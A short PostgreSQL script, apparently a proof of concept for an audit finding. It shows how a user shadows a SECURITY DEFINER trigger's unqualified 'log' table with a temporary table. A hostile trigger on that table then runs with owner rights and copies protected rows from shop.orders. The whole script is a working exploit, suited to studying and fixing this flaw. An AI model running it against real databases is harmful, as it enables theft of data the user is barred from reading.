-- finding: definer-search-path function shop.note()
SET ROLE shop_owner;
CREATE TABLE shop.log (item text);
CREATE TABLE shop.lines (a_order bigint REFERENCES shop.orders ON UPDATE CASCADE, order_id bigint NOT NULL REFERENCES shop.orders ON DELETE CASCADE, item text);
ALTER TABLE shop.lines ENABLE ROW LEVEL SECURITY;
REVOKE UPDATE ON shop.orders FROM order_users;
INSERT INTO shop.lines (order_id, item) VALUES (1, 'bread');
CREATE FUNCTION shop.note() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
  AS $$ BEGIN INSERT INTO log VALUES (OLD.item); RETURN OLD; END $$;
CREATE TRIGGER note AFTER DELETE OR UPDATE ON shop.lines FOR EACH ROW EXECUTE FUNCTION shop.note();
RESET ROLE;
-- leak as alice@example.com
CREATE TEMPORARY TABLE taken (item text);
GRANT INSERT ON pg_temp.taken TO PUBLIC;
CREATE FUNCTION pg_temp.take() RETURNS trigger LANGUAGE plpgsql
  AS $$ BEGIN INSERT INTO pg_temp.taken SELECT item FROM shop.orders; RETURN NEW; END $$;
CREATE TEMPORARY TABLE log (item text); GRANT INSERT ON pg_temp.log TO PUBLIC;
CREATE TRIGGER take BEFORE INSERT ON log FOR EACH ROW EXECUTE FUNCTION pg_temp.take();
SET search_path = shop;
DELETE FROM shop.orders;
SELECT item FROM pg_temp.taken WHERE item = 'secret';
